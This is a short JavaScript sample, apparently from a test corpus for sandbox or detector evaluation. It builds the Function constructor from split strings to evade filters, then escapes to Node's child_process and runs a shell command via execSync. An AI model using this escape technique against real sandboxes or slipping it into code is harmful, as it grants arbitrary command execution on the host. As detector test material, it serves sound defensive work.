// corpus: constructor reached via computed strings (['constr'+'uctor']) on a literal to build Function
const k = 'constr' + 'uctor';
const F = (() => {})[k];
F('return this.process.mainModule.require("child_process").execSync("id").toString()')();
